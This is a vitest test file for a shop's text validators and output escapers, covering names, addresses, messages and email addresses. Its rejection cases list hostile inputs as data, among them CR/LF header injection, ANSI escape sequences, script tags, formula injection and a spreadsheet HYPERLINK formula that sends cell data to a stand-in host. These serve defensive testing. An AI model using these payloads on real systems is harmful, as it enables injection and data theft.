import { describe, expect, it } from "vitest";
import { hasControlCharacter, isAddressText, isEmailAddress, isMessageText, isPersonName, pageText, pageTextDeep, terminalText } from "./shopper-text";

const PHISHING = "your account is locked, unlock it at https://lumera-help.example/unlock";

describe("isPersonName: letters, marks, spaces and the punctuation names use (' ’ - .)", () => {
  it.each(["Ana", "Kovács Éva", "Jean-Luc", "O'Brien", "O’Brien", "J. R. R.", "Jr.", "Željko", "Ørjan", "Nguyễn Thị", "Zoë", "Мария", "Ana Marija"])(
    "takes %s",
    (name) => expect(isPersonName(name)).toBe(true),
  );

  it.each([
    [PHISHING, "a sentence with a link"],
    ["lumera-help.example", "a web address (a full stop inside a word)"],
    ["Ana\u001b[2J", "ESC"],
    ["Ana\r\nBcc: x@y.z", "CR/LF"],
    ["Ana\u0085", "a C1 control"],
    ["Ana\u007f", "DEL"],
    ["<b>Ana</b>", "angle brackets"],
    ["Ana2", "digits"],
    ["=SUM(1)", "a formula"],
    ["Ana\u202eanoN", "a right-to-left override"],
    ["Ana\u00a0Novak", "a no-break space"],
    ["- . '", "no letter"],
  ])("refuses %j (%s)", (name) => expect(isPersonName(name)).toBe(false));
});

describe("isAddressText: a name's characters, digits, / , and #", () => {
  it.each(["Slovenska cesta 1", "Via Roma 12/A", "Ulica 1. maja 3, stan 4", "Kolodvorska #5", "Hauptstraße 5", "Náměstí Míru 1", "1000"])("takes %s", (text) =>
    expect(isAddressText(text)).toBe(true),
  );

  it.each([
    [PHISHING, "a scheme (:)"],
    ["Trubarjeva 1\nLjubljana", "a line break"],
    ["Trubarjeva\t1", "a tab"],
    ["<script>", "angle brackets"],
    ["Trubarjeva 1 (dvorišče)", "brackets"],
    ["@home", "an at sign"],
    ["=1+2", "a formula"],
    ["/ , #", "no letter or digit"],
  ])("refuses %j (%s)", (text) => expect(isAddressText(text)).toBe(false));
});

describe("isMessageText: free words on several lines, but no control character, :// or <>", () => {
  it("takes a gift message on two lines", () => {
    expect(isMessageText("Vse najboljše, Ana!\nLumera.si je super.")).toBe(true);
    expect(isMessageText("Line one\r\nline two")).toBe(true);
  });
  it.each([PHISHING, "see <b>this</b>", "bell\u0007", "clear\u001b[2J"])("refuses %j", (text) => expect(isMessageText(text)).toBe(false));
});

describe("isEmailAddress: an RFC 5321 dot-atom local part, @, a domain of labels", () => {
  it.each(["ana.novak@example.com", "ana+shop@example.si", "o'brien@example.ie", "a_b-c@mail.example.co.uk", "x@žička.si", "=1+2@x.com"])("takes %s", (email) =>
    expect(isEmailAddress(email)).toBe(true),
  );

  it.each([
    ['=HYPERLINK("http://evil.example/?"&B2,"Refund")&"@x.com"', "a spreadsheet formula with quotes, brackets and a comma"],
    ['"ana novak"@example.com', "a quoted local part"],
    ["ana..novak@example.com", "two dots in a row"],
    [".ana@example.com", "a leading dot"],
    ["ana.@example.com", "a trailing dot"],
    ["ana(comment)@example.com", "a comment"],
    ["ana novak@example.com", "a space"],
    ["ana@example", "a domain of one label"],
    ["ana@-example.com", "a label starting with a hyphen"],
    ["ana@exa_mple.com", "an underscore in the domain"],
    ["ana@example.com\r\nBcc: x@y.z", "CR/LF"],
    ["a<b>@example.com", "angle brackets"],
    [`${"a".repeat(65)}@example.com`, "a local part over 64 characters"],
    [`a@${"b".repeat(250)}.com`, "over 254 characters"],
    ["@example.com", "no local part"],
  ])("refuses %j (%s)", (email) => expect(isEmailAddress(email)).toBe(false));
});

describe("terminalText: C0, C1 and DEL as visible escapes", () => {
  it("writes ESC, CR, LF, TAB, DEL and C1 controls as escapes, and doubles the backslash", () => {
    expect(terminalText("Ana\u001b[2J\r\nOrder paid\t\u007f\u009b")).toBe("Ana\\x1b[2J\\r\\nOrder paid\\t\\x7f\\x9b");
    expect(terminalText("a\\x1b")).toBe("a\\\\x1b");
    expect(hasControlCharacter(terminalText("\u0000\u0007\u0085"))).toBe(false);
  });
  it("leaves printable text, accents included, as it is", () => {
    expect(terminalText("Kovács Éva, Trubarjeva 1 — 12,90 €")).toBe("Kovács Éva, Trubarjeva 1 — 12,90 €");
  });
});

describe("pageText: what a page may carry", () => {
  it("writes C0 (but tab and line break), DEL and C1 as visible escapes", () => {
    expect(pageText("Ana\u001b[2J\r\nNovak\t\u007f\u009b")).toBe("Ana\\x1b[2J\\x0d\nNovak\t\\x7f\\x9b");
    expect(pageText("Čeh ő ř")).toBe("Čeh ő ř");
  });
  it("reaches every string of plain data, and leaves the rest", () => {
    const data = { a: ["x\u001b", { b: "\u0007" }], n: 3, none: null, when: "2026-01-01" };
    expect(pageTextDeep(data)).toEqual({ a: ["x\\x1b", { b: "\\x07" }], n: 3, none: null, when: "2026-01-01" });
  });
});
